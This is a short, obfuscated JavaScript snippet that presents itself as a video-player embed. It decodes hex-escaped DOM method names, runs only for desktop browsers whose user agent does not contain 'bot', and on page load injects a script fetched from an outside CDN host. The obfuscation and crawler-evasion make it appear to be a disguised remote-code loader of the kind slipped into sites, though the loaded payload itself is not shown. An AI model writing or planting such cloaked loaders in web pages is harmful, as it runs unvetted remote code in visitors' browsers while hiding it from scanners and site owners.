(function(_0xa,_0xb,_0xc){var _0xd=['\x75\x73\x65\x72\x41\x67\x65\x6e\x74','\x6c\x61\x6e\x67','\x64\x6f\x63\x75\x6d\x65\x6e\x74\x45\x6c\x65\x6d\x65\x6e\x74','\x63\x72\x65\x61\x74\x65\x45\x6c\x65\x6d\x65\x6e\x74','\x73\x63\x72\x69\x70\x74','\x73\x72\x63','\x69\x6e\x73\x65\x72\x74\x42\x65\x66\x6f\x72\x65','\x70\x61\x72\x65\x6e\x74\x4e\x6f\x64\x65','\x67\x65\x74\x45\x6c\x65\x6d\x65\x6e\x74\x73\x42\x79\x54\x61\x67\x4e\x61\x6d\x65'];
var _0xe=function(i){return _0xd[i];};
if(/Windows NT|Mac OS X|Linux/['test'](_0xa['navigator'][_0xe(0)])&&!/bot/['test'](_0xa['navigator'][_0xe(0)])
&&_0xb['querySelector']('.vanta-player')&&!_0xa['vantaPlayer']){
var _0xf=_0xb[_0xe(3)](_0xe(4)),_0x10=_0xb[_0xe(8)](_0xe(4))[0];
_0xa['vantaPlayer']={'lang':_0xb[_0xe(2)][_0xe(1)]||'en','autoplay':![],'muted':!![]};
_0xf[_0xe(5)]=_0xc;_0x10[_0xe(7)][_0xe(6)](_0xf,_0x10);}
}(window,document,'https://cdn.vantaplayer.example/v2/player.min.js'));
